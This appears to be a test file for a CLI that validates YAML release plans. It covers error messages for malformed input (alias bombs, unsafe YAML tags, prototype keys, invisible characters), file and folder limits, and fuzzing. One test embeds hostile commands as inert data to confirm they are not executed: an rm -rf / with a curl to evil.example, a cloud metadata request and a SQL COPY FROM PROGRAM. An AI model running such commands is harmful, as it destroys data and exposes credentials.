import assert from 'node:assert/strict'
import { execFileSync, spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import fc from 'fast-check'
import { runCommand } from './testing/run-command.ts'

let folder = ''
before(() => {
  folder = mkdtempSync(join(tmpdir(), 'dankai-bad-input-'))
})
after(() => rmSync(folder, { recursive: true }))

const plan = `kind: ReleasePlan
name: shop
exposure: [{ flag: shop-new }]
metrics:
  error_rate: { ratio: http_requests(status=5xx) / http_requests }
  latency: { p99: http_duration, unit: ms }
promoteWhen: [error_rate <= 1%]
rollbackWhen: [{ if: error_rate > 5% for 2m, then: rollback now }]
phases:
  - { name: canary, expose: 5%, hold: 10m }
  - { name: all, expose: 100%, hold: 1h }
rollback: [{ name: back, within: 5m, do: [{ expose: 0% }] }]
`
const changed = (from: string, to: string): string => {
  assert.ok(plan.includes(from), from)
  return plan.replace(from, to)
}
const scenarioOf = (script: string): string =>
  `${plan}---\nkind: Scenarios\nplan: shop\nscenarios:\n  - { name: a, script: [${script}], expect: [{ outcome: completed }] }\n`
/** Each line repeats the one before ten times: a kilobyte that would be a terabyte. */
const aliasBomb = [...'bcdefghijkl'].reduce(
  (text, name, index) => `${text}${name}: &${name} [${`*${'abcdefghijk'[index]},`.repeat(10)}]\n`,
  'a: &a [x, x, x, x, x, x, x, x, x, x]\n',
)

/** kind of mistake | what the file holds | the first line of the answer, after the file's name. */
// biome-ignore format: a table is read row by row.
const mistakes: readonly (readonly [string, string | Uint8Array, string])[] = [
  // ── No YAML, or not what it seems ──
  ['a bracket that never closes', changed('[{ flag: shop-new }]', '[{ flag: shop-new }'), '4:1: Cannot read this line as YAML: found an indentation that fits no level above, expected items of one level in one column. Correct the indentation, or close the bracket'],
  ['a tab', changed('  error_rate:', '\terror_rate:'), '5:1: Cannot read this line as YAML: found a tab, expected spaces for indentation. Replace the tab by spaces'],
  ['a key given twice', `${plan}name: again\n`, '13:1: Cannot read "name": found the key "name" a second time (first in line 2), expected each key once. Join the two, or delete one'],
  ['a word that is true elsewhere', `${plan}title: yes\n`, '13:8: Cannot read "title": found the word "yes", which some YAML tools read as true, expected a value that every tool reads alike. Write true, or "yes" in quotes'],
  ['a level without quotes', changed('latency: { p99: http_duration, unit: ms }', 'latency:\n    p99: http_duration\n    warn: > 80%'), '8:11: Cannot read level "warn" of metric "latency": found the YAML block marker ">", expected a comparison. Put it in quotes: warn: "> 80%"'],
  ['an alias bomb', `${plan}${aliasBomb}`, '13:7: Cannot read "a": found the YAML anchor or alias "&a", expected the value itself, because anchors are lost in diffs and messages. Write it out, move it to the plan level, or use: same as PHASE'],
  ['nesting without an end', `a: ${'['.repeat(2_000)}`, '1:64: Cannot read file "FILE": found lists and maps nested too deep, expected no more levels than a plan needs. Move the inner part into a named runbook or checklist'],
  ['a tag that makes objects', `${plan}title: !!python/object:os.system x\n`, '13:34: Cannot read "title": found the YAML tag "tag:yaml.org,2002:python/object:os.system", expected a plain value. Delete the tag'],
  ['a key that objects have', `${plan}__proto__: { a: 1 }\n`, '13:1: Cannot read document: found the key "__proto__", expected a key that is an ordinary name. Rename the key'],
  ['a mark that turns text round', changed('name: back', 'name: b\u202eack'), '12:21: Cannot read file "FILE": found the invisible character U+202E, expected text that reads as it is shown. Delete it'],
  ['a NUL byte', `${plan}title: a\0b\n`, '13:9: Cannot read file "FILE": found the invisible character U+0000, expected text that reads as it is shown. Delete it'],
  ['a picture', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), '1:1: Cannot read file "FILE": found bytes that are not UTF-8, expected UTF-8. Save it as UTF-8'],
  ['UTF-16', Buffer.from(`\ufeff${plan}`, 'utf16le'), '1:1: Cannot read file "FILE": found bytes that are not UTF-8, expected UTF-8. Save it as UTF-8'],
  ['nothing', '', '1:1: Cannot read file "FILE": found no document, expected at least one. Begin with kind: ReleasePlan'],
  ['comments alone', '# later\n', '1:1: Cannot read file "FILE": found no document, expected at least one. Begin with kind: ReleasePlan'],
  ['a sentence', 'hello\n', '1:1: Cannot read this document: found no keys, expected a map with "kind" and "name". Begin it with kind: ReleasePlan'],
  ['a list', '- a\n- b\n', '1:1: Cannot read this document: found no keys, expected a map with "kind" and "name". Begin it with kind: ReleasePlan'],
  // ── Words the language does not have ──
  ['an unknown kind', changed('ReleasePlan', 'ReleasePlam'), '1:7: Cannot use kind "ReleasePlam" in kind: found no such name, expected the name of a kind. Did you mean "ReleasePlan"?'],
  ['an unknown key', changed('promoteWhen', 'promotWhen'), '7:1: Cannot use key "promotWhen" in this document: found no such key, expected a key of a release plan. Did you mean "promoteWhen"?'],
  ['an unknown verb', `${plan}before: [{ runn: npm test }]\n`, '13:12: Cannot use key "runn" in "before[0]": found no such key, expected a key of a step: one verb and its options. Did you mean "run"?'],
  ['two verbs in a step', `${plan}before: [{ run: npm test, sql: SELECT 1 }]\n`, '13:10: Cannot read "before[0]": found 2 verbs, "run" and "sql", expected exactly one. Keep one, or split it in two'],
  ['an unknown metric', changed('error_rate <= 1%', 'eror_rate <= 1%'), '7:15: Cannot use metric "eror_rate" in promoteWhen[0]: found no such name, expected one of metrics, signals or checks. Did you mean "error_rate"?'],
  ['an unknown calendar', `${plan}calendar: nowhere\n`, '13:11: Cannot use calendar "nowhere" in calendar: found no such name, expected the name of a calendar. Add calendar "nowhere" first'],
  ['an unknown phase in a scenario', scenarioOf('{ at: canry + 1m, error_rate: 5% }'), '17:31: Cannot use phase "canry" in scenarios[0].script[0].at: found no such name, expected the name of a phase. Did you mean "canary"?'],
  // ── Values of the wrong form ──
  ['a number without its unit', changed('error_rate > 5% for 2m', 'error_rate > 5 for 2m'), '8:22: Cannot read condition "error_rate > 5 for 2m" in rollbackWhen[0].if: found 5 without a unit, expected a percentage because "error_rate" is a ratio. Write error_rate > 5% for 2m'],
  ['a duration in words', changed('hold: 10m', 'hold: 10 minutes'), '10:39: Cannot read "phases[0].hold": found "10 minutes", expected a duration such as 90s, 5m, 2h or 7d, or open. Write for example hold: 5m'],
  ['more than everybody', changed('expose: 5%', 'expose: 150%'), '10:29: Cannot read "phases[0].expose": found "150%", expected a percentage, SEGMENT, 15% of SEGMENT, or shadow. Write for example expose: 5%'],
  ['an unknown consequence', changed('rollback now', 'roll back'), '8:52: Cannot read "rollbackWhen[0].then": found "roll back", expected rollback now, rollback within 1h, decide within 24h, halt or hold. Write for example then: rollback now'],
  ['a scenario value without its unit', scenarioOf('{ at: canary + 1m, error_rate: 5 }'), '17:56: Cannot set "error_rate" in scenarios[0].script[0].error_rate: found "5", expected "no data" or a value such as 5%. Write error_rate: 5%'],
  // ── What does not go together ──
  ['no hands', changed('exposure: [{ flag: shop-new }]\n', ''), '1:1: Cannot compile plan: found no exposure, expected the hands that move it. Add exposure to the plan, or to each strategy'],
  ['a phase that takes users away', changed('expose: 100%', 'expose: 2%'), '11:5: Cannot order phase "all": found expose 2% after phase "canary" with 5%, expected 5% or more. Raise it; going down is what rollback is for'],
  ['two hands that split users', changed('[{ flag: shop-new }]', '[{ flag: a }, { flag: b }]'), '3:25: Cannot combine exposure[1] "flag b": found a second hand that splits users (5% of 5% is 0.25%), expected one. Add as: gate'],
  ['a question without an answer to silence', changed('then: rollback now', 'then: decide within 1h'), '8:16: Cannot accept rule "error_rate > 5% for 2m" in rollbackWhen[0]: found "decide within 1h" without "otherwise", expected the answer to silence. Add otherwise: rollback, or otherwise: continue'],
  ['a metric inside itself', changed('metrics:', 'metrics:\n  a: { highest: [b] }\n  b: { highest: [a] }'), '6:17: Cannot read "metrics.b.highest": found a metric inside itself (a → b → a), expected no circle. Take one of them out'],
  ['a plan that waits for itself', `${plan}before: [{ needs: shop }]\n`, '1:1: Cannot need plan "shop" in plan "shop": found plans that wait for each other (shop → shop), expected no circle. Take one of the needs out'],
  ['one name for two documents', `${plan}---\n${plan}`, '14:1: Cannot read ReleasePlan "shop": found a second document of this name, expected each name once. Rename one of them, or delete it'],
]

describe('dankai validate names the place and the next step for', () => {
  for (const [kind, content, answer] of mistakes) {
    it(kind, async () => {
      const file = writeInput(content)
      const run = await runCommand(['validate', file], { workingFolder: folder })
      assert.equal(run.out[0], `${file}:${answer.replaceAll('FILE', file)}`)
      assert.deepEqual([run.exit, run.error], [1, []])
      const [json] = (await runCommand(['validate', file, '--json'], { workingFolder: folder })).out
      const { line, column } = JSON.parse(json ?? '').problems[0]
      assert.ok(answer.startsWith(`${line}:${column}: `))
    })
  }
})

let inputs = 0
/** Each input lies alone in its folder, because neighbours help. */
function writeInput(content: string | Uint8Array): string {
  const file = join(`case-${++inputs}`, 'plan.yaml')
  mkdirSync(join(folder, `case-${inputs}`))
  writeFileSync(join(folder, file), content)
  return file
}

describe('dankai validate bounds what it reads', () => {
  const validate = (...args: string[]) => runCommand(['validate', ...args], { workingFolder: folder })

  it('refuses a file of 50 MB without reading it, and judges the others', async () => {
    const large = writeInput(plan)
    truncateSync(join(folder, large), 52_428_800)
    const { exit, out } = await validate(large, writeInput(changed('5m', '5')))
    assert.equal(
      out[0],
      `${large}:1:1: Cannot read file "${large}": found 52428800 bytes, expected at most 1000000. Split it into several files`,
    )
    assert.deepEqual([exit, out.length], [1, 2])
  })

  it('ends in a sentence for a folder of ten thousand plans', async () => {
    mkdirSync(join(folder, 'huge'))
    for (let index = 0; index < 10_000; index++) writeFileSync(join(folder, 'huge', `${index}.yaml`), '')
    const { exit, error } = await validate('huge')
    assert.equal(
      error[0],
      'Cannot read plans in "huge": found more than 500 plan files, 20000 entries or 32 MB, expected a folder of plans. Give a folder that holds plans alone.',
    )
    assert.equal(exit, 2)
    writeFileSync(join(folder, 'huge', 'plan.yaml'), plan)
    assert.deepEqual((await validate(join('huge', 'plan.yaml'))).out, ['✓ shop'])
  })

  it('follows linked files but no linked folders, so that a circle of links ends', async () => {
    mkdirSync(join(folder, 'links', 'inner'), { recursive: true })
    symlinkSync('..', join(folder, 'links', 'inner', 'up'))
    symlinkSync(join(folder, writeInput(plan)), join(folder, 'links', 'plan.yaml'))
    assert.deepEqual((await validate('links')).out, ['✓ shop'])
  })

  it('reads a pipe to its end', async () => {
    const pipe = join(folder, 'pipe.yaml')
    execFileSync('mkfifo', [pipe])
    const writer = spawn('sh', ['-c', 'cat "$0" > "$1"', join(folder, writeInput(plan)), pipe])
    const written = once(writer, 'exit')
    const { exit, out } = await validate('pipe.yaml')
    await written
    assert.deepEqual([exit, out], [0, ['✓ shop']])
  })

  for (const [what, path, answer] of [
    [
      'a path that is not there',
      'nowhere.yaml',
      'Cannot read "nowhere.yaml": found no such file or folder, expected a plan. Check the path.',
    ],
    [
      'a path with a NUL byte',
      'a\0b',
      'Cannot read "a\\0b": found no such file or folder, expected a plan. Check the path.',
    ],
    [
      'a device',
      '/dev/zero',
      'Cannot read "/dev/zero": found a device or socket, expected a plan file or a folder. Check the path.',
    ],
    [
      'a folder without plans',
      'empty',
      'Cannot read plans in "empty": found no .yaml file, expected at least one. Give a plan file or a folder that holds one.',
    ],
  ] as const) {
    it(`calls ${what} wrong usage`, async () => {
      mkdirSync(join(folder, 'empty'), { recursive: true })
      const { exit, out, error } = await validate(path)
      assert.deepEqual([exit, out, error], [2, [], [answer]])
    })
  }

  it('takes commands of a hostile plan as data', async () => {
    const hostile = `${plan}before:
  - { run: "true; rm -rf / --no-preserve-root $(curl http://evil.example) && shutdown" }
  - { http: "GET http://169.254.169.254/latest/meta-data/" }
  - { sql: "COPY secrets FROM PROGRAM 'id'" }
`
    assert.deepEqual((await validate(writeInput(hostile))).out, ['✓ shop'])
  })
})

describe('nothing makes the command print a stack trace', () => {
  const isStack = (line: string): boolean => /^\s+at .+[:(]\d+|\bnode:internal\b|\.ts:\d+:\d+\)/m.test(line)
  const word = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.constantFrom(
      '--json',
      '--',
      '--why',
      '--seed',
      '--scenario',
      '-f',
      '--version',
      '--help',
      '..',
      '/dev/null',
      '9'.repeat(20),
    ),
  )
  const commands = [
    'init validate simulate test apply start status watch events approve confirm reject report withdraw promote pause',
    'resume close abort rollback answer cancel retry skip runbook amend emergency help',
  ].flatMap(line => line.split(' '))

  it('no command line', async () => {
    // Nothing listens there, so that what would reach a server ends with 3.
    const environment = { DANKAI_URL: 'http://127.0.0.1:3' }
    const workingFolder = join(folder, 'law')
    mkdirSync(workingFolder)
    const lines = fc.tuple(fc.oneof(word, fc.constantFrom(...commands)), fc.array(word, { maxLength: 5 }))
    await fc.assert(
      fc.asyncProperty(lines, async ([command, args]) => {
        const { exit, out, error } = await runCommand([command, ...args], { workingFolder, environment })
        assert.ok([0, 1, 2, 3].includes(exit))
        assert.ok(exit === 0 || out.length + error.length > 0, 'says why')
        assert.deepEqual([...out, ...error].filter(isStack), [])
        if (command !== '--' && args.includes('--json') && !args.includes('--') && exit !== 0)
          assert.ok(out.every(line => JSON.parse(line)) && error.length === 0, 'answers in JSON')
      }),
      { numRuns: 500 },
    )
  })

  it('no content of a file', async () => {
    const cut = fc.tuple(fc.nat(plan.length), fc.nat(40), fc.uint8Array({ maxLength: 20 }))
    const damaged = cut.map(([at, length, bytes]) =>
      Buffer.concat([Buffer.from(plan.slice(0, at)), bytes, Buffer.from(plan.slice(at + length))]),
    )
    const content = fc.oneof(fc.uint8Array({ maxLength: 300 }), damaged)
    const file = writeInput('')
    await fc.assert(
      fc.asyncProperty(content, fc.constantFrom('validate', 'test', 'simulate'), async (bytes, command) => {
        writeFileSync(join(folder, file), bytes)
        const { exit, out, error } = await runCommand([command, file], { workingFolder: folder })
        assert.ok([0, 1, 2].includes(exit))
        assert.deepEqual([...out, ...error].filter(isStack), [])
        if (command === 'validate' && exit === 1) assert.match(out[0] ?? '', /plan\.yaml:\d+:\d+: Cannot /)
      }),
      { numRuns: 1_000 },
    )
  })
})

it('writes with dankai init a plan that is right, whatever its name', async () => {
  const name = fc.stringMatching(/^[a-z][a-z0-9-]{0,58}$/)
  await fc.assert(
    fc.asyncProperty(name, async plan => {
      const workingFolder = mkdtempSync(join(folder, 'init-'))
      const { exit } = await runCommand(['init', plan], { workingFolder })
      const { out } = await runCommand(['validate', '.'], { workingFolder })
      assert.deepEqual(out, exit === 0 ? [`✓ ${plan}`] : [])
      assert.equal(exit, ['on', 'off', 'yes', 'no'].includes(plan) ? 2 : 0)
    }),
    { numRuns: 50, examples: [['no'], ['y'], ['null'], ['a-']] },
  )
})
